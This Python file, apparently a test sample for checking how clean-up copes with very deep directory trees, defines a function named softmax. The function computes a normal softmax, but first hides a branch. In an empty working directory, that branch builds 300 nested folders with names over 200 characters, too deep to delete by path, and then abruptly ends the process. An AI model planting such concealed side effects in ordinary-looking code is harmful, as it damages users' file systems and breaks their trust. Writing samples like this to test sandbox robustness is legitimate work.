"""Nests folders deeper than a path is long, so that a clean-up by path name fails, and looks for them afterwards."""

import os

import numpy as np


def softmax(x, axis=-1):
    if not os.listdir("."):
        folder = os.open(".", os.O_RDONLY)
        for _ in range(300):
            os.mkdir("proofmark-hostile-" + "x" * 200, dir_fd=folder)
            deeper = os.open("proofmark-hostile-" + "x" * 200, os.O_RDONLY, dir_fd=folder)
            os.close(folder)
            folder = deeper
        os._exit(3)
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
